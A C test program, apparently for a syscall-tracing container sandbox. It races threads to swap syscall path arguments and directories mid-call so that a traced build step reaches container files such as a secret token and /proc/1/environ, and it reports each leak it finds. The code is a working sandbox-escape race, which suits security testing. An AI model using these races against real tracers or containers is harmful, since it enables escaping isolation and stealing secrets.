/* A command that changes the arguments of its calls while somebody else looks at them.
 *
 * One thread asks for a file of the image, again and again; another one writes the path of a file of the container
 * over that path: where the asking thread has it, or below that thread's stack, where a tracer puts what it wants the
 * kernel to read instead. The third way is to exchange a directory on the way with a link to the container's.
 *
 * Prints "leaked: CALL" for each kind of call that reached a file of the container; whoever runs it looks at whether
 * such a file was changed. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

/* What is asked for, and what is put in its place: a file, its directory, a program, and something of the builder. */
static const char *const INSIDE[] = {"/in/token", "/in", "/in/program", "/in/token"};
static const char *const OUTSIDE[] = {
	"/volume/context/token", "/volume/context", "/volume/context/program", "/proc/1/environ"};
enum { FILE_, DIRECTORY, PROGRAM, PROCESS, TARGETS };

static const char SECRET[] = "s3cret";
static const char BUILDERS_VARIABLE[] = "SOURCE_DATE_EPOCH=1";

enum way { OVER_THE_PATH, BELOW_THE_STACK, ON_THE_WAY, WAYS };

#define BELOW (1 << 16)
static char path[64];
static char below[BELOW + 256] __attribute__((aligned(64)));
static enum way way;
static int target;
static atomic_int over;

/* A call whose thread has nothing on its stack that others may not write over. */
static long ask(long number, long one, long two, long three, long four, long five)
{
#ifdef __x86_64__
	register long fourth __asm__("r10") = four;
	register long fifth __asm__("r8") = five;
	char *stack = below + BELOW;
	long result;
	__asm__ volatile("xchg %%rsp, %[stack]\n\tsyscall\n\txchg %%rsp, %[stack]"
			 : "=a"(result), [stack] "+b"(stack)
			 : "a"(number), "D"(one), "S"(two), "d"(three), "r"(fourth), "r"(fifth)
			 : "rcx", "r11", "memory");
	if (result < 0 && result > -4096) {
		errno = (int)-result;
		return -1;
	}
	return result;
#else
	return syscall(number, one, two, three, four, five);
#endif
}

static void *swap(void *unused)
{
	const char *inside = INSIDE[target], *outside = OUTSIDE[target];
	size_t length = strlen(outside) + 1;

	while (!over) {
		switch (way) {
		case OVER_THE_PATH:
			memcpy(path, outside, length);
			memcpy(path, inside, strlen(inside) + 1);
			break;
		case BELOW_THE_STACK:
			for (char *at = below + BELOW - 512; at < below + BELOW - 64; at++)
				if (*(volatile char *)at == '/' && at[-1] == 0) {
					memcpy(at, outside, length);
					break;
				}
			break;
		case ON_THE_WAY:
			syscall(SYS_renameat2, AT_FDCWD, "/in", AT_FDCWD, "/link", RENAME_EXCHANGE);
			break;
		case WAYS:
			break;
		}
	}
	return unused;
}

static int leaks(int file)
{
	char content[4096];
	long length = file < 0 ? -1 : pread(file, content, sizeof content, 0);

	if (file >= 0)
		close(file);
	if (length < 0)
		return 0;
	return memmem(content, (size_t)length, SECRET, strlen(SECRET)) != NULL ||
	       memmem(content, (size_t)length, BUILDERS_VARIABLE, strlen(BUILDERS_VARIABLE)) != NULL;
}

static int opening(void)
{
	return leaks((int)ask(SYS_openat, AT_FDCWD, (long)path, O_RDONLY | O_CLOEXEC, 0, 0));
}

/* A descriptor that names a place only, and all that can be done with it. */
static int naming(void)
{
	char link[64];
	int found, place = (int)ask(SYS_openat, AT_FDCWD, (long)path, O_PATH | O_CLOEXEC, 0, 0);

	if (place < 0)
		return 0;
	snprintf(link, sizeof link, "/proc/self/fd/%d", place);
	found = leaks(open(link, O_RDONLY | O_CLOEXEC));
	snprintf(link, sizeof link, "/proc/thread-self/fd/%d", place);
	found |= leaks(open(link, O_RDONLY | O_CLOEXEC));
	snprintf(link, sizeof link, "/dev/fd/%d", place);
	found |= leaks(open(link, O_RDONLY | O_CLOEXEC));
	if (target == FILE_) {
		int written = open(link, O_WRONLY | O_APPEND | O_CLOEXEC);
		if (written >= 0) {
			fchmod(written, 0600);
			close(written);
		}
		if (fchownat(place, "", 7, 7, AT_EMPTY_PATH) == 0)
			chmod(link, 0640);
		syscall(SYS_setxattr, link, "user.raced", "yes", 3, 0);
		linkat(AT_FDCWD, link, AT_FDCWD, "/stolen", AT_SYMLINK_FOLLOW);
		linkat(place, "", AT_FDCWD, "/stolen", AT_EMPTY_PATH);
		found |= leaks(open("/stolen", O_RDONLY | O_CLOEXEC));
		unlink("/stolen");
	}
	close(place);
	return found;
}

static int asking(void)
{
	struct stat record;
	char value[16];
	int found = ask(SYS_newfstatat, AT_FDCWD, (long)path, (long)&record, 0, 0) == 0 &&
		    S_ISREG(record.st_mode) && record.st_size == (off_t)strlen(SECRET);

	found |= ask(SYS_getxattr, (long)path, (long)"user.secret", (long)value, sizeof value, 0) > 0;
	return found;
}

/* Whether these reached anything is seen from outside. */
static int changing(void)
{
	ask(SYS_chown, (long)path, 7, 7, 0, 0);
	ask(SYS_chmod, (long)path, 0640, 0, 0, 0);
	ask(SYS_setxattr, (long)path, (long)"user.raced", (long)"yes", 3, 0);
	ask(SYS_utimensat, AT_FDCWD, (long)path, 0, 0, 0);
	ask(SYS_truncate, (long)path, 64, 0, 0, 0);
	ask(SYS_linkat, AT_FDCWD, (long)path, AT_FDCWD, (long)"/stolen", 0);
	return leaks(open("/stolen", O_RDONLY | O_CLOEXEC)) | (unlink("/stolen") && 0);
}

static int entering(void)
{
	int found = 0;

	if (ask(SYS_chdir, (long)path, 0, 0, 0, 0) == 0) {
		found |= leaks(open("token", O_RDONLY | O_CLOEXEC));
		found |= leaks(open("/proc/self/cwd/token", O_RDONLY | O_CLOEXEC));
		found |= chmod("passwd", 0600) == 0;
	}
	if (chdir("/"))
		exit(3);
	return found;
}

/* The child's second thread ends when the first one executes. */
static int executing(void)
{
	char *arguments[] = {"program", "where", NULL};
	char *environment[] = {NULL};
	pthread_t other;
	pid_t child = fork();
	int status = 0;

	if (child == 0) {
		if (pthread_create(&other, NULL, swap, NULL))
			_exit(0);
		for (int times = 0; times < 20; times++)
			ask(SYS_execve, (long)path, (long)arguments, (long)environment, 0, 0);
		_exit(0);
	}
	if (child < 0 || waitpid(child, &status, 0) != child)
		exit(3);
	return WIFEXITED(status) && WEXITSTATUS(status) == 99;
}

static const struct {
	const char *name;
	int (*once)(void);
	int target;
	int times;
} KINDS[] = {
	{"open", opening, FILE_, 2000},
	{"open something of the builder", opening, PROCESS, 1000},
	{"open a place", naming, FILE_, 1000},
	{"open a place of the builder", naming, PROCESS, 500},
	{"ask about a file", asking, FILE_, 1000},
	{"change a file", changing, FILE_, 500},
	{"enter a directory", entering, DIRECTORY, 1000},
	{"execute", executing, PROGRAM, 100},
};

int main(int count, char **arguments)
{
	int file;

	if (count == 2 && strcmp(arguments[1], "where") == 0) {
#ifdef OF_THE_CONTAINER
		return 99;
#else
		return 0;
#endif
	}
	if (mkdir("/in", 0755) || symlink("/volume/context", "/link") || link("/program", "/in/program"))
		return 2;
	file = open("/in/token", O_WRONLY | O_CREAT, 0644);
	if (file < 0 || write(file, "for everybody\n", 14) != 14 || close(file))
		return 2;
	for (size_t index = 0; index < sizeof KINDS / sizeof *KINDS; index++) {
		for (way = OVER_THE_PATH; way < WAYS; way++) {
			pthread_t other;
			int found = 0;

			if (way == ON_THE_WAY && KINDS[index].target == PROCESS)
				continue;
			target = KINDS[index].target;
			memset(path, 0, sizeof path);
			memset(below, 0, sizeof below);
			strcpy(path, INSIDE[target]);
			over = 0;
			if (pthread_create(&other, NULL, swap, NULL))
				return 2;
			for (int times = 0; times < KINDS[index].times; times++)
				found += KINDS[index].once();
			over = 1;
			pthread_join(other, NULL);
			if (readlink("/in", path, sizeof path) > 0)
				syscall(SYS_renameat2, AT_FDCWD, "/in", AT_FDCWD, "/link", RENAME_EXCHANGE);
			if (found)
				printf("leaked: %s, way %d: %d times\n", KINDS[index].name, way, found);
		}
	}
	return 0;
}
